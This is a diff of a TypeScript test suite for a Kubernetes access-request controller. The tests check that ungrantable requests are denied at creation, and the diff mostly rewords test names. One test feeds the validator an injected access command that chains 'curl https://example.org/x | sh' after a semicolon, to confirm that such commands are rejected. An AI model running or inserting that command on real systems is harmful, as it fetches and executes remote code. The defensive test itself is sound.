@@ -3,7 +3,7 @@ import { execRequest, type Manifest, podRequest } from '../../support/access-req
 import { AccessStage } from '../../support/access-stage.ts';
 import { testNamespace } from '../../support/plane.ts';
 
-describe('M20: a request that can never be granted is refused when it is made', () => {
+describe('M20: a request that can never be granted is denied at creation', () => {
   let stage: AccessStage;
   let elsewhere: string;
 
@@ -35,28 +35,28 @@ describe('M20: a request that can never be granted is refused when it is made', 
   const badDurations = ['soon', '10', '1d', '0s', '-5m', '1ms'];
   const refusals: Refusal[] = [
     [
-      'through a template that does not exist',
+      'for a template that does not exist',
       podRequest('no-template', { templateName: 'nothing' }),
       'TemplateNotFound',
       404,
       /PodAccessTemplate "nothing" does not exist in namespace "access-[^"]+"; kubectl get podaccesstemplates/,
     ],
     [
-      'through a template of the other kind',
+      'for a template of the other kind',
       execRequest('other-kind', { templateName: 'payments-shell' }),
       'TemplateNotFound',
       404,
       /ExecAccessTemplate "payments-shell" does not exist/,
     ],
     [
-      'through a template of another namespace',
+      'for a template of another namespace',
       podRequest('far-template', { templateName: 'away-shell' }),
       'TemplateNotFound',
       404,
       /PodAccessTemplate "away-shell" does not exist in namespace "access-/,
     ],
     [
-      'through a template that is not ready',
+      'for a template that is not ready',
       podRequest('unready-template', { templateName: 'aimless-shell' }),
       'TemplateNotReady',
       403,
@@ -88,7 +88,7 @@ describe('M20: a request that can never be granted is refused when it is made', 
     });
   }
 
-  it('and so is a template whose access command does more than enter the pod', async () => {
+  it('a template is denied if its access command does more than enter the pod', async () => {
     const accessCommand = 'kubectl exec -ti {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh';
     const answer = await stage.plane.call('POST', stage.urlOf('ExecAccessTemplate'), {
       apiVersion: 'crds.wizardofoz.co/v1alpha1',
@@ -103,7 +103,7 @@ describe('M20: a request that can never be granted is refused when it is made', 
     assert.match((answer.body as { message: string }).message, /InvalidAccessCommand: .*accessCommand has ";" outside/);
   });
 
-  it('but one for more than the maximum gets the maximum, and is told at once and in its condition', async () => {
+  it('a request for more than the maximum gets the maximum, with a warning and a condition', async () => {
     const { stderr } = await stage.alice.kubectl(['create', '-n', stage.namespace, '-f', '-'], {
       input: JSON.stringify(podRequest('too-long', { duration: '99h' })),
     });
